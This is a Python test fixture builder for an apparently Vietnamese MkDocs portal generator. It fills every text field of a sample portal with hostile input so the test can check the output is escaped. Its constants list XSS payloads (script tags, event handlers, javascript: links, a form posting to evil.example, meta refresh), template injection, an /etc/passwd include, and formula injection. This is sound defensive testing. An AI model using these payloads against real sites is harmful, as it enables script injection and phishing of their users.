"""A portal in which every text that a record can hold is an attack, made from the schema's own fields.

Records of the smallest portal are completed: every field of every kind is there, every text is hostile.
"""

from __future__ import annotations

import json
import shutil
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from types import UnionType
from typing import Annotated, Any, Union, get_args, get_origin

import yaml
from PIL import Image
from pydantic import BaseModel
from pydantic.fields import FieldInfo

from generator.schema import KINDS, Portal, Record, Story
from generator.schema import types as kinds
from generator.schema.photo import Photo
from generator.schema.story import Guide, Page
from generator.schema.types import Choice, RefTo
from tests.small_portal import ROOT

EVIL = "https://evil.example"
PHOTO = "mau.jpg"
# What a text may begin with, to end or open something of the page around it.
STARTS = (
    '"><script>XSS</script>',
    "</title></script><script>XSS</script>",
    "<img src=x onerror=XSS>",
    "{{ 7*7 }}{% include 'x' %}{# x #}",
    "# Đầu đề",
    "- mục",
    "1. mục",
    "> trích",
    "```html",
    "---",
    "</div></article></main>",
    "![ảnh](" + EVIL + "/a.png)",
    "[liên kết](javascript:XSS)",
    "<!--",
    "=SUM(A1)",
    "{: onclick=XSS }",
    "\u202eđảo\u202c",
    "&lt;script&gt;XSS&lt;/script&gt;",
    ":::danger",
    '--8<-- "/etc/passwd"',
)
MIDDLE = (
    "<script>XSS</script><script src=EVIL/a.js></script>",
    "<svg onload=XSS><style>*{position:fixed}</style></svg>",
    "<iframe srcdoc='<script>parent.XSS</script>'></iframe><base href=EVIL/>",
    "<div style='position:fixed;inset:0;z-index:9999;background:red'>che</div>",
    "<a href='javascript:XSS'>x</a> [x](<javascript:XSS>) [y]: javascript:XSS",
    "<meta http-equiv=refresh content='0;url=EVIL/'><link rel=stylesheet href=EVIL/a.css>",
    "<form action=EVIL/><input name=q><button>gửi</button></form>",
    "<details open ontoggle=XSS><summary>x</summary></details><body onload=XSS>",
    "${XSS} `x` **đậm** __x__ ~~x~~ $$x$$ [[x]] :smile: | a | b | *[HTML]: XSS",
    ']]> --> */ \\u003cscript>XSS \\" \' " &#x3c;img src=x onerror=XSS&#x3e; %3Cscript%3E',
    "<EVIL/tu-lien-ket> EVIL/b www.evil.example <mailto:a@evil.example>",
    "</textarea></noscript></style></template><plaintext><xmp>",
)
ENDS = ("\u200bẩn\u200d\u2060", "</script><!--", "\u2066", "\\", "<", "`", "a\u0301" * 30, "Ấ" * 200)


@dataclass
class Attack:
    """Gives every field a text of its own: ``HI7`` marks the seventh, and its script says so when it runs."""

    count: int = 0
    lines: list[str] = field(default_factory=list)

    def line(self) -> str:
        """One hostile line."""
        number = self.count
        self.count += 1
        parts = (
            STARTS[number % len(STARTS)],
            f"HI{number}",
            MIDDLE[number % len(MIDDLE)],
            ENDS[number % len(ENDS)],
        )
        text = " ".join(parts).replace("XSS", f"window.ran=(window.ran||[]).concat({number})")
        self.lines.append(text.replace("EVIL", EVIL))
        return self.lines[-1]

    def prose(self) -> str:
        """Several hostile paragraphs, one of them trying to close what holds it."""
        return f"{self.line()}\n\n---\n\n# Đầu đề\n\n</div></div></article>\n\n    mã\n\n{self.line()}"

    def href(self) -> str:
        """An address that is allowed, and tries to leave its attribute."""
        number = self.count
        self.count += 1
        return f"{EVIL}/HI{number}/\"onmouseover='window.ran=1'<script>`)](x)"


def field_values(model: type[BaseModel]) -> Iterator[tuple[str, FieldInfo]]:
    """YAML key and field of all that staff may type."""
    for name, info in model.model_fields.items():
        if not info.exclude:
            yield info.alias or name, info


class Filler:
    """Completes a record: what it has stays where it is no text, all texts become hostile."""

    def __init__(self, ids: dict[str, str], attack: Attack) -> None:
        self.ids = ids
        self.attack = attack
        self.own = ""

    def record(self, model: type[BaseModel], known: dict[str, Any]) -> dict[str, Any]:
        """All fields of ``model``; ``known`` is what the smallest portal says."""
        full = {}
        for key, info in field_values(model):
            if model is Photo and key == "rut_dong_y":
                continue  # it would not be shown
            annotation = Annotated[info.annotation, *info.metadata] if info.metadata else info.annotation
            value = self.value(annotation, known.get(key), key)
            if value is not None:
                full[key] = value
        return full

    def value(self, annotation: Any, known: Any, key: str) -> Any:
        """A hostile value where the type is text, the known one or a made one elsewhere."""
        if annotation == kinds.Line:
            return self.attack.line()
        if annotation == kinds.Prose:
            return self.attack.prose()
        if annotation == kinds.Href:
            return self.attack.href()
        origin = get_origin(annotation)
        if origin in {Union, UnionType}:
            kept = [part for part in get_args(annotation) if part is not type(None)]
            return self.value(kept[0], known, key)
        if origin is Annotated and get_origin(get_args(annotation)[0]) in {Union, UnionType, tuple}:
            return self.value(get_args(annotation)[0], known, key)
        if origin is tuple:
            known = known if isinstance(known, list) else [known]
            made = [self.value(get_args(annotation)[0], one, key) for one in known]
            return [one for one in made if one is not None] or None
        if isinstance(annotation, type) and issubclass(annotation, BaseModel):
            return self.record(annotation, known or {})
        return known if known is not None or key == "nhap" else self.made(annotation)

    def made(self, annotation: Any) -> Any:
        """A harmless value for a field that the smallest portal leaves out; None for an id."""
        simple = {
            kinds.Year: "2024",
            kinds.Whole: "3",
            kinds.YesNo: "có",
            kinds.FigureField: "7",
            kinds.DateField: "01/06/2024",
            kinds.MomentField: "01/06/2024",
            kinds.PeriodField: "2024",
            kinds.PhotoFile: PHOTO,
            kinds.FocusField: "trên",
        }
        for known, text in simple.items():
            if annotation == known:
                return text
        base, *marks = get_args(annotation)
        if isinstance(base, type) and issubclass(base, Choice):
            return next(iter(base)).value
        ref = next((mark for mark in marks if isinstance(mark, RefTo)), None)
        if ref is None:
            # The code of the movement's one group, or of a warning.
            return "mot-chan" if annotation == kinds.Code else "chua-dung"
        if ref.kinds[0] == self.own:
            return None  # a record inside itself is refused
        identifier = self.ids.get(ref.kinds[0])
        return f"{ref.kinds[0]}/{identifier}" if identifier and ref.typed else identifier


def model_of(path: Path, root: Path) -> type[Record]:
    """What a file of a portal holds."""
    parts = path.relative_to(root).parts
    if parts[0] == "data":
        return Portal if len(parts) == 2 else KINDS[parts[1]]
    kinds_by_folder: dict[str, type[Record]] = {"bai-viet": Story, "huong-dan": Guide}
    return kinds_by_folder.get(parts[1], Page)


def body_of_a_story(attack: Attack) -> str:
    """All attacks again, as Markdown that staff might paste."""
    blocks = [line for number in range(len(STARTS)) for line in (attack.line(), f"> {attack.line()}", "")]
    table = f"| a | b |\n| - | - |\n| {attack.line().replace('|', '')} | x |"
    return "\n\n".join([*blocks, table, "[x]: javascript:window.ran=1", "[x] [y](data:text/html,x)"])


def write_hostile(folder: Path, root: Path) -> Attack:
    """The hostile portal in ``folder``, with the theme of the project at ``root``."""
    small = ROOT
    attack = Attack()
    files = sorted([*small.glob("data/**/*.yml"), *small.glob("content/**/*.md")])
    ids = {path.parent.name: path.stem for path in reversed(files) if path.suffix == ".yml"}
    ids["bai-viet"] = next(small.glob("content/bai-viet/*.md")).stem
    filler = Filler(ids, attack)
    for path in [*files, small / "content/huong-dan/cach-lam.md"]:
        text = path.read_text(encoding="utf-8") if path in files else "---\n{}\n---\n"
        known = yaml.load(text.split("---\n")[1] if path.suffix == ".md" else text, yaml.BaseLoader)
        filler.own = path.parent.name
        record = filler.record(model_of(path, small), known)
        written = "".join(
            f"{key}: {json.dumps(value, ensure_ascii=False)}\n" for key, value in record.items()
        )
        target = folder / path.relative_to(small)
        target.parent.mkdir(parents=True, exist_ok=True)
        if path.suffix == ".md":
            written = f"---\n{written}---\n\n{body_of_a_story(attack)}\n"
        target.write_text(written, encoding="utf-8")
    (folder / "content/anh").mkdir(exist_ok=True)
    Image.new("RGB", (800, 600), "#7a1f1f").save(folder / "content/anh" / PHOTO)
    settings = (small / "mkdocs.yml").read_text(encoding="utf-8")
    settings = settings.replace("  - search:\n      lang: vi\n", "")
    (folder / "mkdocs.yml").write_text(settings.replace("../../../", f"{root.as_posix()}/"), encoding="utf-8")
    shutil.rmtree(folder / "site", ignore_errors=True)
    return attack
